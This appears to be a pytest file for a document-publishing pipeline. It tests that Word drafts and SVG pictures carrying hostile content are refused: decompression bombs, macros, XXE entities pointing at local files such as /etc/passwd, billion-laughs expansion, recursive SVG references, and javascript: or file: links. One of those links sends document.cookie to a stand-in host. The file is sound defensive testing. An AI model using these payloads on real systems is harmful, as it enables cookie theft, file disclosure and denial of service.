    assert str(refusal.value) == ("output/draft/draft.docx: its part customXml/item9.xml would "
                                  "unpack to 68,157,440 bytes; the limit is 67,108,864")
    assert time.monotonic() - started < 30


def test_a_draft_unpacking_to_more_than_the_limit_or_of_too_many_parts_is_refused(monkeypatch):
    from pipeline.readers.docx import draft as docx_draft

    draft = a_draft()
    monkeypatch.setattr(docx_draft, "MAX_UNPACKED_BYTES", 1000)
    with pytest.raises(PipelineError, match=r"draft.docx: would unpack to [\d,]+ bytes; "
                                            "the limit is 1,000"):
        read_back(draft)
    monkeypatch.setattr(docx_draft, "MAX_UNPACKED_BYTES", 10**9)
    monkeypatch.setattr(docx_draft, "MAX_PARTS", 5)
    with pytest.raises(PipelineError, match=r"draft.docx: holds \d+ parts; the limit is 5"):
        read_back(draft)


@pytest.mark.parametrize("macros", [
    {"add": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"}},
    {"replace": {"[Content_Types].xml": None}},
])
def test_a_draft_holding_macros_is_refused(macros):
    import io
    import zipfile

    draft = a_draft()
    if "replace" in macros:
        types = zipfile.ZipFile(io.BytesIO(draft)).read("[Content_Types].xml").replace(
            b"wordprocessingml.document.main+xml",
            b"vnd.ms-word.document.macroEnabled.main+xml")
        macros = {"replace": {"[Content_Types].xml": types}}
    with pytest.raises(PipelineError, match="draft.docx: holds macros"):
        read_back(repacked(draft, **macros))


def test_malformed_xml_in_a_part_read_late_is_named_against_the_draft():
    broken = repacked(a_draft(), replace={"word/endnotes.xml": b"<w:endnotes><w:endnote"})
    with pytest.raises(PipelineError, match="^output/draft/draft.docx: holds XML that is not "
                                            "well formed"):
        read_back(broken)


def test_an_outline_level_that_is_no_number_is_body_text():
    import io
    import zipfile

    draft = a_draft()
    document = zipfile.ZipFile(io.BytesIO(draft)).read("word/document.xml")
    odd = document.replace(b"<w:pPr>", b'<w:pPr><w:outlineLvl w:val="abc"/>')
    assert odd != document
    blocks = read_back(repacked(draft, replace={"word/document.xml": odd})).blocks
    assert [type(block).__name__ for block in blocks] == ["Paragraph", "Note"]


def test_a_draft_of_many_paragraphs_reads_in_time_linear_in_them():
    """python-docx scans every style for each paragraph's and run's style: cached, 1,000
    paragraphs of three runs read in a second or two (they took over a minute before)."""
    from pipeline.model import Paragraph, Span

    blocks = [Paragraph((Span(f"Paragraph {number} is "), Span("bold", bold=True),
                         Span(" and short."))) for number in range(1000)]
    draft = a_draft(blocks)
    started = time.monotonic()
    assert len(read_back(draft).blocks) == 1000
    assert time.monotonic() - started < 20


DTD_REMEDY = ("declares a DTD (a document type, where entities are declared), which a Word or"
              " LibreOffice draft never does; save it again from Word or LibreOffice")


@pytest.mark.parametrize("part", ["word/document.xml", "word/endnotes.xml", "word/styles.xml",
                                  "word/numbering.xml", "[Content_Types].xml", "_rels/.rels",
                                  "word/_rels/document.xml.rels", "docProps/core.xml",
                                  "customXml/item1.xml"])
def test_an_entity_declared_in_any_part_is_refused_before_anything_is_read(tmp_path, part):
    """An entity standing for a file of the machine is never resolved, nor its reference
    dropped with the words after it: the part declaring it is refused (OPC's M1.18)."""
    (tmp_path / "secret.txt").write_text(SECRET)
    path = tmp_path / "draft.docx"
    path.write_bytes(with_entity(a_draft(), part, (tmp_path / "secret.txt").as_uri()))
    assert refusal(path) == f"its part {part} {DTD_REMEDY}"


@pytest.mark.parametrize("declaration", [
    "<!DOCTYPE w:document>",
    '<!DOCTYPE w:document SYSTEM "http://example.org/word.dtd">',
    '<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
])
def test_any_document_type_is_refused_entities_or_not(tmp_path, declaration):
    draft = a_draft()
    path = tmp_path / "draft.docx"
    path.write_bytes(repacked(draft, replace={"word/document.xml": with_dtd(
        part_of(draft, "word/document.xml"), declaration)}))
    assert refusal(path) == f"its part word/document.xml {DTD_REMEDY}"


def test_an_svg_picture_may_declare_its_document_type_as_illustrator_writes_it():
    from pipeline.model import Note

    svg = ('<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SVG).encode()
    assert isinstance(read_back(repacked(a_draft(), add={"word/media/image9.svg": svg}))
                      .blocks[-1], Note)


@pytest.mark.parametrize(("target", "kind"), [
    ("styles.xml", "styles"), ("numbering.xml", "numbering"), ("settings.xml", "settings"),
    ("header1.xml", "header"), ("endnotes.xml", "endnotes"), ("theme/theme1.xml", "theme"),
])
def test_a_part_taken_from_outside_the_draft_is_refused(tmp_path, target, kind):
    """Only a hyperlink may lead outside the draft (it is read as its address); a styles
    part there made python-docx fail in words the editor could not act on."""
    from pipeline.errors import excerpt

    outside = (tmp_path / "secret.xml").as_uri()
    path = tmp_path / "draft.docx"
    path.write_bytes(related_outside(a_draft(), target, outside))
    assert refusal(path) == (
        f"its part word/document.xml takes its {kind} from a file outside the draft"
        f" ({excerpt(outside)}), which the pipeline never reads; make it part of the draft"
        " (not a link) or remove it, save, and run doit again")


def linked_draft(target: str, field: bool = False) -> bytes:
    """A draft whose words `the ledger` link to `target`: by a hyperlink, as Word's Insert >
    Link writes one, or by a HYPERLINK field."""
    from pipeline.model import Paragraph, Span

    draft = a_draft((Paragraph((Span("See "), Span("the ledger", link="https://example.org/"),
                                Span(" for the year."))),))
    if not field:
        rels = part_of(draft, "word/_rels/document.xml.rels")
        return repacked(draft, replace={"word/_rels/document.xml.rels": rels.replace(
            b'Target="https://example.org/"', f'Target="{target}"'.encode())})
    document = part_of(draft, "word/document.xml").decode()
    start = document.index("<w:hyperlink")
    end = document.index("</w:hyperlink>") + len("</w:hyperlink>")
    fielded = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
               f'"preserve"> HYPERLINK "{target}" </w:instrText></w:r><w:r><w:fldChar'
               ' w:fldCharType="separate"/></w:r><w:r><w:t>the ledger</w:t></w:r><w:r>'
               '<w:fldChar w:fldCharType="end"/></w:r>')
    return repacked(draft, replace={
        "word/document.xml": (document[:start] + fielded + document[end:]).encode()})


@pytest.mark.parametrize("field", [False, True], ids=["hyperlink", "field"])
@pytest.mark.parametrize("target", ["javascript:fetch('//a.example/'+document.cookie)",
                                    "file:///C:/Windows/System32/calc.exe", "../minutes.docx",
                                    "vbscript:msgbox(1)", "tel:+44;ext=javascript:x",
                                    "tel:0800 FLOWERS"])
def test_a_draft_linking_to_anything_but_a_web_page_a_mail_or_a_telephone_is_refused(tmp_path, target,
                                                                         field):
    """Such a link had been imported silently, a live link in every edition and the draft."""
    from pipeline.errors import excerpt

    path = tmp_path / "draft.docx"
    path.write_bytes(linked_draft(target, field))
    assert refusal(path) == (
        f"holds a link on 'the ledger' (in 'See the ledger for the year.') to {excerpt(target)},"
        " which is not a web, mail or telephone address; link its words to an address"
        " starting https://, http://, mailto: or tel: (Insert > Link), or remove the link,"
        " save, and run doit again")


@pytest.mark.parametrize("field", [False, True], ids=["hyperlink", "field"])
def test_a_draft_linking_to_a_web_page_a_mail_or_a_telephone_reads_back(field):
    from pipeline.model import Span

    for target in ("HTTPS://Example.org/ledger", "mailto:clerk@example.org",
                   "tel:+441632960555", "tel:+44 (0)1632 960-555"):
        assert Span("the ledger", link=target) in read_back(linked_draft(target, field)).blocks[0].spans


def test_the_writers_never_link_to_anything_but_a_web_page_or_a_mail():
    """A second guard behind the readers': a model holding such a link (as a model written
    by another program might) stops the draft."""
    from pipeline.errors import RenderingError
    from pipeline.model import Paragraph, Span

    for target in ("file:///etc/passwd", "/etc/passwd", "javascript:alert(1)"):
        with pytest.raises(RenderingError, match=f"link '{re.escape(target)}' is not a web"):
            a_draft((Paragraph((Span("the ledger", link=target),)),))


def test_the_draft_links_a_telephone_number():
    from pipeline.model import Paragraph, Span

    for target in ("tel:+441632960555", "tel:+44 (0)1632 960-555"):
        assert Span("the desk", link=target) in read_back(
            a_draft((Paragraph((Span("the desk", link=target),)),))).blocks[0].spans


@pytest.mark.slow  # lays out a page
def test_the_pdf_writer_links_a_telephone_number(tmp_path):
    """WeasyPrint escapes the spaces of a number written with them (%20): the number is
    still one the guard lets through."""
    import io

    import pikepdf

    from pipeline.layouts import load_layout
    from pipeline.model import Document, Metadata, Paragraph, Span
    from pipeline.writers.pdf.render import render_pdf

    document = Document("desk", Metadata(title="The desk"), None, (Paragraph((
        Span("Call "), Span("the desk", link="tel:+44 (0)1632 960-555"))),))
    pdf = pikepdf.open(io.BytesIO(render_pdf(document, load_layout(ROOT / "layouts", "screen"),
                                             tmp_path)))
    assert [str(annotation.A.URI) for page in pdf.pages for annotation in page.get("/Annots", [])
            if "/A" in annotation and "/URI" in annotation.A] == ["tel:+44%20(0)1632%20960-555"]


@pytest.mark.slow  # lays out a page
def test_the_pdf_writer_never_links_to_anything_but_a_web_page_or_a_mail(tmp_path):
    """Nor the PDF: WeasyPrint had made an address with no scheme a link to a file of the
    machine (`/etc/passwd` to `file://source/etc/passwd`)."""
    from pipeline.errors import RenderingError
    from pipeline.layouts import load_layout
    from pipeline.model import Document, Metadata, Paragraph, Span
    from pipeline.writers.pdf.render import render_pdf

    for target in ("/etc/passwd", "javascript:alert(1)"):
        document = Document("ledger", Metadata(title="The ledger"), None,
                            (Paragraph((Span("See "), Span("the ledger", link=target))),))
        with pytest.raises(RenderingError, match="is not a web, mail or telephone address"):
            render_pdf(document, load_layout(ROOT / "layouts", "screen"), tmp_path)


def test_a_draft_of_100000_paragraphs_is_refused_before_it_is_read(tmp_path):
    """Reading it took half a minute and half a gigabyte, and its import wrote a marked-up
    source too large to build; its words alone say it is too large, and far more paragraphs
    than a document may hold say so too."""
    for words, problem in (
            (("Paragraph {} is ", "bold", " and short."), r"too large to import: its text would make a marked-up "
                                 r"source of more than 3,\d{3},\d{3} bytes; the limit is 1,048,576"),
            (("", "A", ""), r"holds 100,00\d paragraphs, empty ones too; the limit is 40,000 \(a document "
                   r"holds at most 10,000 paragraphs, headings, list items, table cells and "
                   r"other texts\): split it into several documents")):
        path = tmp_path / "draft.docx"
        path.write_bytes(many_paragraphs(100_000, words))
        started = time.process_time()
        assert re.fullmatch(problem, refusal(path))
        assert time.process_time() - started < 10


def import_refusal(tmp_path: Path, blocks) -> str:
    """The one line refusing to import, as edited, the draft of a document of `blocks`: the
    draft is kept as it was, and nothing is written."""
    from pipeline.model import Metadata
    from pipeline.tasks import drafts

    project = Project(tmp_path)
    project.source_dir.mkdir()
    project.scraped("draft").write_text(GOOD)
    docx = project.docx("draft")
    docx.parent.mkdir(parents=True)
    data = a_draft(blocks)
    docx.write_bytes(data)
    with pytest.raises(PipelineError) as raised:
        drafts.import_draft(project, "draft", Metadata(title="A draft"), {})
    assert raised.value.path == docx and docx.read_bytes() == data
    assert [path.name for path in project.source_dir.iterdir()] == ["draft.txt"]
    assert [path.name for path in docx.parent.iterdir()] == ["draft.docx"]
    return raised.value.problem


def test_a_draft_whose_marked_up_source_would_be_too_large_is_refused_naming_it(tmp_path):
    """Its words are few, its links' addresses long: only the source made says it."""
    from pipeline.model import Paragraph, Span

    address = "https://archive.example.org/" + "records/" * 140
    blocks = [Paragraph((Span("See "), Span(f"record {number}", link=f"{address}{number}"),
                         Span("."))) for number in range(1000)]
    assert re.fullmatch(r"too large to import: its text would make a marked-up source of "
                        r"1,1\d\d,\d{3} bytes; the limit is 1,048,576",
                        import_refusal(tmp_path, blocks))


def test_a_draft_whose_paragraph_would_be_too_long_a_line_is_refused_naming_it(tmp_path):
    from pipeline.model import Paragraph, Span

    blocks = [Paragraph((Span("The minutes, unbroken: " + "and so it went on " * 6000),))]
    assert import_refusal(tmp_path, blocks) == (
        "too large to import: its text would make a line of 108,022 characters in the marked-up"
        " source (a paragraph or table row); the limit is 100,000")


@pytest.mark.slow  # writes and reads a draft of 10,050 paragraphs
def test_a_draft_of_more_texts_than_a_document_holds_is_refused_naming_it(tmp_path):
    from pipeline.model import Paragraph, Span

    blocks = [Paragraph((Span(f"Line {number}."),)) for number in range(10_050)]
    assert import_refusal(tmp_path, blocks) == (
        "holds 10,054 paragraphs, headings, list items, table cells and other texts; the limit"
        " is 10,000")


@pytest.mark.slow  # a `doit model`
def test_a_draft_of_100000_paragraphs_fails_its_build_at_once_writing_nothing(tmp_path):
    folder = new_project(tmp_path / "project", {"long.txt": GOOD})
    draft = folder / "output" / "long" / "long.docx"
    draft.parent.mkdir(parents=True)
    data = many_paragraphs(100_000, ("Paragraph {} is ", "bold", " and short."))
    draft.write_bytes(data)
    result = audited_doit(folder, "model", limit=60)
    assert result.returncode != 0
    assert_clean_console(result)
    assert re.search(r"^error: output/long/long\.docx: too large to import: its text would make"
                     r" a marked-up source of more than 3,\d{3},\d{3} bytes; the limit is "
                     r"1,048,576$", said(result), re.MULTILINE), said(result)[-3000:]
    assert result.seconds < 30
    assert draft.read_bytes() == data
    assert sorted(path.name for path in (folder / "source").iterdir()) == ["long.txt"]


# --- Pictures --------------------------------------------------------------------------------

SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400" viewBox="0 0 600 400">'
       '<rect width="600" height="400" fill="#3070a0"/>'
       '<circle cx="300" cy="200" r="120" fill="#e04020" stroke="#208040"/></svg>')


def picture_refusal(tmp_path: Path, name: str, make) -> str:
    from pipeline.readers.metadata import load_metadata

    (tmp_path / "source" / "photos").mkdir(parents=True)
    make(tmp_path / "source" / "photos" / name)
    toml = tmp_path / "source" / "piece.toml"
    toml.write_text(f'[images]\n1 = "photos/{name}"\n')
    try:
        load_metadata(toml, ["print"])
    except PipelineError as error:
        return str(error).removeprefix(str(tmp_path.resolve()) + "/")
    return ""


@pytest.mark.parametrize("name, make, expected", [
    ("text.png", lambda path: path.write_text("not a picture\n"),
     "source/photos/text.png: is not a picture (PNG, JPEG, GIF or WebP) that can be read"),
    ("pdf.jpg", lambda path: path.write_bytes(b"%PDF-1.7\n"),
     "source/photos/pdf.jpg: is not a picture (PNG, JPEG, GIF or WebP) that can be read"),
    ("tiff.png", lambda path: __import__("PIL.Image").Image.new("RGB", (4, 4)).save(
        path, "TIFF"), "source/photos/tiff.png: is a TIFF picture; supply a PNG, JPEG, GIF or WebP"),
    ("bomb.png", lambda path: __import__("PIL.Image").Image.new("1", (20_000, 20_000)).save(
        path, optimize=True), "source/photos/bomb.png: declares more than 60,000,000 pixels"),
    ("large.png", lambda path: __import__("PIL.Image").Image.new("1", (9_000, 9_000)).save(
        path, optimize=True),
     "source/photos/large.png: holds 9,000 x 9,000 pixels; the limit is 60,000,000"),
    ("broken.svg", lambda path: path.write_text("<svg><rect></svg>"),
     "source/photos/broken.svg: is not an SVG picture that can be read"),
    ("html.svg", lambda path: path.write_text("<html><body>no</body></html>"),
     "source/photos/html.svg: is not an SVG picture that can be read"),
    ("entity.svg", lambda path: path.write_text(
        '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'),
     "source/photos/entity.svg: declares a DTD (a document type, where entities are declared),"
     " which a picture never needs; save it without one"),
    ("laughs.svg", lambda path: path.write_text(
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'),
     "source/photos/laughs.svg: declares a DTD"),
    ("system.svg", lambda path: path.write_text(
        '<!DOCTYPE svg SYSTEM "file:///etc/svg.dtd">' + SVG), "source/photos/system.svg: "
                                                             "declares a DTD"),
    ("illustrator.svg", lambda path: path.write_text(
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + SVG), ""),
    ("outside.svg", lambda path: path.write_text(SVG.replace("</svg>", (
        '<image width="9" height="9" href="/srv/plans/seal.png"/><image width="9" height="9" '
        'xmlns:x="http://www.w3.org/1999/xlink" x:href="https://example.org/seal.png"/>'
        '<use href="emblems.svg#crest"/></svg>'))),
     "source/photos/outside.svg: refers to files outside it (/srv/plans/seal.png, "
     "https://example.org/seal.png, emblems.svg#crest); a picture must hold all it draws"),
    ("styled.svg", lambda path: path.write_text(SVG.replace("</svg>", (
        '<style>@import "harbour.css"; rect { fill: url( "pattern.svg#dots" ) }</style>'
        '<rect width="9" height="9" style="stroke: URL(file:///etc/stroke.svg#a)"/>'
        '<rect width="9" height="9" fill="url(ink.svg#b)"/></svg>'))),
     "source/photos/styled.svg: refers to files outside it (harbour.css, pattern.svg#dots, "
     "file:///etc/stroke.svg#a and 1 more); a picture must hold all it draws"),
    ("escaped.svg", lambda path: path.write_text(SVG.replace("</svg>", (
        '<rect width="9" height="9" fill="\\75rl(ink.svg#b)"/></svg>'))),
     "source/photos/escaped.svg: refers to files outside it (ink.svg#b)"),
    ("own.svg", lambda path: path.write_text(SVG.replace("</svg>", (
        '<defs><linearGradient id="g"/><circle id="c" r="3"/></defs>'
        '<style>rect { fill: url(#g) }</style><use href="#c"/><rect style="fill: url(\'#g\')"/>'
        '<image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>'
        '<text x="1" y="9">Plan of the reading room</text></svg>'))), ""),
    ("picture.svg", lambda path: path.write_text(SVG), ""),
])
def test_a_picture_is_checked_where_it_enters(tmp_path, name, make, expected):
    started = time.monotonic()
    refusal = picture_refusal(tmp_path, name, make)
    assert refusal.startswith(expected) and bool(refusal) == bool(expected), refusal
    assert time.monotonic() - started < 10


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="400">'


def reused(kind: str, levels: int, fan: int = 10) -> str:
    """An SVG whose each part draws the one below it `fan` times, `levels` deep, through a
    <use> of a group or a symbol, a pattern filling a group's shapes, or a marker at each
    vertex of a line."""
    points = " ".join(f"{n},{n * 3}" for n in range(fan))
    parts = {
        "group": lambda n: f'<g id="p{n}">' + f'<use href="#p{n - 1}"/>' * fan + "</g>",
        "symbol": lambda n: f'<symbol id="p{n}">' + f'<use href="#p{n - 1}" x="2"/>' * fan
                            + "</symbol>",
        "pattern": lambda n: (f'<pattern id="p{n}" width="8" height="8"><g style="fill: '
                              f'url(#p{n - 1})">' + '<rect width="2" height="2"/>' * fan
                              + "</g></pattern>"),
        "marker": lambda n: (f'<marker id="p{n}"><polyline points="{points}" '
                             f'marker-mid="url(#p{n - 1})"/></marker>'),
    }[kind]
    first = {"pattern": '<pattern id="p0" width="1" height="1"><circle r="1"/></pattern>',
             "marker": '<marker id="p0"><circle r="1"/></marker>'}.get(kind, '<circle id="p0" r="1"/>')
    drawn = {"pattern": f'<rect width="90" height="90" fill="url(#p{levels})"/>',
             "marker": f'<polyline points="{points}" marker-mid="url(#p{levels})"/>'}.get(
        kind, f'<use href="#p{levels}"/>')
    return (SVG_OPEN + "<defs>" + first + "".join(parts(n) for n in range(1, levels + 1))
            + "</defs>" + drawn + "</svg>")


def chart(points: int) -> str:
    """A dense scatter chart as a charting library writes one: its points clipped to the
    plot, hatched bars, a line with a marker at each of its 300 vertices."""
    dots = "".join(f'<circle cx="{n % 600}" cy="{n * 7 % 400}" r="1.5" fill="#3070a0"/>'
                   for n in range(points))
    bars = "".join(f'<rect x="{n * 12}" y="200" width="10" height="200"/>' for n in range(50))
    line = " ".join(f"{x},{x * 13 % 400}" for x in range(0, 600, 2))
    return (SVG_OPEN + '<defs><pattern id="hatch" width="4" height="4" patternUnits='
            '"userSpaceOnUse"><path d="M0 4 L4 0" stroke="#000"/></pattern><marker id="dot">'
            '<circle cx="2" cy="2" r="2"/></marker><clipPath id="plot"><rect width="600" '
            f'height="400"/></clipPath></defs><g clip-path="url(#plot)">{dots}</g><g fill='
            f'"url(#hatch)">{bars}</g><polyline points="{line}" fill="none" stroke="#e04020" '
            'marker-mid="url(#dot)"/></svg>')


def hatched(selector: str, bar: str) -> str:
    """40 bars, as `bar` marks them, and a rule filling `selector` with a pattern of
    patterns three levels deep."""
    return (SVG_OPEN + f"<style>{selector} {{ fill: url(#p3) }}</style>"
            + reused("pattern", 3)[len(SVG_OPEN):].replace(
                "</svg>", f'<rect {bar} width="9" height="90"/>' * 40 + "</svg>"))


@pytest.mark.parametrize("svg, refused", [
    (reused("group", 11), True),  # 10^11 circles in 2 KB
    (reused("symbol", 6), True),
    (reused("pattern", 6), True),
    (reused("marker", 5), True),
    (SVG_OPEN + '<g id="loop"><circle r="1"/><use href="#loop"/></g></svg>', True),
    (SVG_OPEN + '<pattern id="p"><rect width="1" height="1" fill="url(#p)"/></pattern>'
                '<rect width="9" height="9" fill="url(#p)"/></svg>', True),
    # 3,332 elements each of 40 bars a stylesheet's rule fills with the pattern draws
    (hatched(".bar", 'class="bar"'), True),
    (hatched(".bar", ""), False),  # a rule that fills none
    (reused("group", 4), False),  # 10,000 circles: a part reused as a chart reuses its symbols
    (reused("pattern", 3), False),
    (reused("marker", 2), False),
    (chart(20_000), False),
], ids=["use", "symbol", "pattern", "marker", "use-loop", "pattern-loop", "stylesheet",
        "stylesheet-unmatched", "use-10000", "pattern-3", "marker-2", "chart"])
def test_an_svg_reusing_its_parts_past_a_renderers_reach_is_refused(tmp_path, svg, refused):
    """Each part an SVG reuses is counted as often as it is drawn: one nesting its <use>,
    patterns or markers ten to a level, levels deep, draws billions of elements, which the
    editions' renderer never finished drawing; a real chart's tens of thousands pass."""
    started = time.monotonic()
    refusal = picture_refusal(tmp_path, "chart.svg", lambda path: path.write_text(svg))
    assert refusal == ("source/photos/chart.svg: draws more than 100,000 elements, each part it"
                       " reuses (<use>, a pattern, a marker) counted as often as it is drawn; "
                       "simplify it, or supply it as a PNG" if refused else ""), refusal
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("width, height, expected", [
    ("100000000", "100000000", "gives its width as 100,000,000 px, over the 100,000 px (26 "
                               "metres) a picture may measure; save it at the size it is drawn"),
    ("600", "40000mm", "gives its height as 151,181 px, over the 100,000 px"),
    ("12em", "8em", "gives its width as '12em', which cannot be converted to a size on the page;"
                    " give it in px, pt, mm, cm or in, or as a percentage"),
    ("600", "tall", "gives its height as 'tall', which cannot be converted"),
    ("600", "-400", "gives its height as '-400', which cannot be converted"),
    ("100000", "2.5in", ""),
    ("100%", "100%", ""),
], ids=["px", "mm", "em", "words", "negative", "in", "percentage"])
def test_an_svg_pictures_size_is_one_a_page_can_hold(tmp_path, width, height, expected):
    """An SVG's width and height are converted to px, as its drawing is scaled from them: one
    beyond any page, or in a unit with no size of its own (em, ex) or none, is refused in one
    line; a percentage (its box's) passes. Such a picture had been drawn as a speck, or not at
    all, in an edition passed as press-ready."""
    svg = SVG_OPEN.replace('width="600" height="400"', f'width="{width}" height="{height}"')
    refusal = picture_refusal(tmp_path, "plan.svg", lambda path: path.write_text(
        svg + '<rect width="100%" height="100%" fill="#3070a0"/></svg>'))
    assert refusal.startswith(f"source/photos/plan.svg: {expected}" if expected else ""), refusal
    assert bool(refusal) == bool(expected), refusal


def test_flat_rgb_vectors_are_converted_to_the_profiles_cmyk():
    """An SVG picture is drawn by WeasyPrint as vectors in RGB: the print file converts them,
    as it converts an RGB raster, instead of failing the no-rgb check."""
    import pikepdf

    from pipeline.writers.pdf.print_ready import convert_rgb_operators, overprint_black

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj.Contents = pdf.make_stream(
        b"0.188 0.439 0.627 rg 0 0 10 10 re f 1 0 0 RG 0 0 m 5 5 l S 0 0 0 1 k")
    profile = (ROOT / "layouts" / "print" / "colour" / "FOGRA39L-coated.icc").read_bytes()
    convert_rgb_operators(pdf, profile, overprint_black(pdf))  # as make_print_ready does
    operators = [(str(operator), [float(value) for value in operands]) for operands, operator
                 in pikepdf.parse_content_stream(pdf.pages[0])
                 if str(operator) in ("rg", "RG", "k", "K")]
    assert [operator for operator, _ in operators] == ["k", "K", "k"]
    cyan, magenta, yellow, black = operators[0][1]
    assert cyan > 0.6 and yellow < 0.1  # a blue stays a blue
    assert operators[1][1][1] > 0.8 and operators[1][1][2] > 0.8  # red: magenta and yellow
    assert operators[2][1] == [0, 0, 0, 1]


def test_a_title_longer_than_a_docx_property_holds_is_cut_there_only():
    import io

    import docx

    from pipeline.layouts import load_layout
    from pipeline.model import Document, Metadata, Paragraph, Span
    from pipeline.writers.docx.draft import write_docx

    title = " ".join(["A very long title of the annual report"] * 40)  # 1,559 characters
    document = Document("long", Metadata(title=title, subtitle="s" * 300), None,
                        (Paragraph((Span("Text."),)),))
    draft = docx.Document(io.BytesIO(write_docx(document, load_layout(ROOT / "layouts",
                                                                      "print"), ROOT)))
    assert len(draft.core_properties.title) <= 255
    assert draft.core_properties.title.endswith(" title…")
    assert len(draft.core_properties.subject) == 255
    assert draft.paragraphs[0].text == title


def test_bidirectional_controls_are_removed_as_invisible_debris():
    from pipeline.readers.cleaning import clean_line

    assert clean_line("Paid \u202e0001\u202c to them, \u200fsaid \u2067she\u2069.") == \
        "Paid 0001 to them, said she."


# --- The summary and the last good outputs -------------------------------------------------------


def test_the_summary_never_gives_an_earlier_builds_verdict(tmp_path):
    import json

    from pipeline.tasks.console import edition_state
    from pipeline.tasks.drafts import REPORT_DIGEST, digest_of

    project = Project(new_project(tmp_path / "project", {"piece.txt": GOOD}))
    pdf, report = project.pdf("piece", "print"), project.preflight_report("piece", "print")
    pdf.parent.mkdir(parents=True)
    pdf.write_bytes(b"%PDF- an earlier build's")
    report.write_text(json.dumps({"pages": 3, "checks": [],
                                  REPORT_DIGEST: digest_of(b"%PDF- an earlier build's")}))
    assert edition_state(project, "piece", "print") == "3 pages, press-ready"
    pdf.write_bytes(b"%PDF- this build's, whose preflight crashed")
    assert edition_state(project, "piece", "print") == "not checked: no preflight report of this PDF"
    report.unlink()
    assert edition_state(project, "piece", "print") == "not checked: no preflight report of this PDF"


def test_a_source_turned_bad_keeps_the_last_good_outputs(tmp_path):
    folder = new_project(tmp_path / "project", {"good.txt": GOOD, "other.txt": GOOD})
    assert audited_doit(folder, "model").returncode == 0
    model = folder / "output" / "good" / "good.json"
    before = model.read_bytes()
    (tmp_path / "secret.txt").write_text(SECRET)
    (folder / "source" / "good.txt").unlink()
    (folder / "source" / "good.txt").symlink_to(tmp_path / "secret.txt")
    (folder / "source" / "other.txt").write_text(GOOD + "\nA new paragraph.\n")
    result = audited_doit(folder, "model", watched=tmp_path)
    assert "error: source/good.txt: is a symbolic link leading out of source/" in said(result)
    assert_clean_console(result)
    assert model.read_bytes() == before
    assert "A new paragraph." in (folder / "output" / "other" / "other.json").read_text()


@pytest.mark.parametrize("damage", ["garbage", "cut short"])
def test_a_corrupt_font_file_is_refused_not_replaced_by_another_face(tmp_path, damage):
    from pipeline.layouts import check_fonts, load_layout

    project = new_project(tmp_path / "project")
    font = project / "layouts" / "fonts" / "NotoSerif-Regular.ttf"
    whole = font.read_bytes()
    font.unlink()  # a hard link to the repository's font: never written through
    font.write_bytes(os.urandom(5000) if damage == "garbage" else whole[:100_000])
    started = time.monotonic()
    with pytest.raises(PipelineError, match="NotoSerif-Regular.ttf: is not a font file that "
                                            "can be read"):
        check_fonts(load_layout(project / "layouts", "screen"))
    assert time.monotonic() - started < 5


@pytest.mark.slow
def test_an_svg_picture_goes_to_press_converted_to_cmyk(tmp_path):
    nbsp = "\u00a0"
    caption = "The reading room drawn as a plan."
    folder = new_project(tmp_path / "project", {
        "plan.txt": f"Opening the stacks\n\nThe stacks were opened on 2 May.\n\n{nbsp}\n\n"
                    f"{caption}\n\n{caption}\n\nMore readers came every week.\n",
        "plan.toml": 'layouts = ["print"]\n[images]\n1 = "plan.svg"\n'})
    (folder / "source" / "plan.svg").write_text(SVG)
    result = audited_doit(folder, "pdf", "preflight", limit=300)
    assert result.returncode == 0, said(result)
    assert "plan-print.pdf                           1 page, press-ready" in said(result)
    assert_clean_console(result)


@pytest.mark.parametrize("suffix", ["txt", "md"])
def test_a_text_named_by_its_suffix_alone_is_refused_its_name_empty(tmp_path, suffix):
    """`.txt` had been the document `.txt`, whose text was sought in `source/.txt.txt`
    (`cannot be read: no such file or directory`)."""
    project = Project(new_project(tmp_path / "project", {"good.txt": GOOD}))
    (project.source_dir / f".{suffix}").write_text(GOOD)
    assert project.documents() == ["good"]
    [refused] = project.misnamed()
    assert refused.seen_from(project.root) == (
        f"source/.{suffix}: its name is empty (no document name before .{suffix});"
        " rename the file")
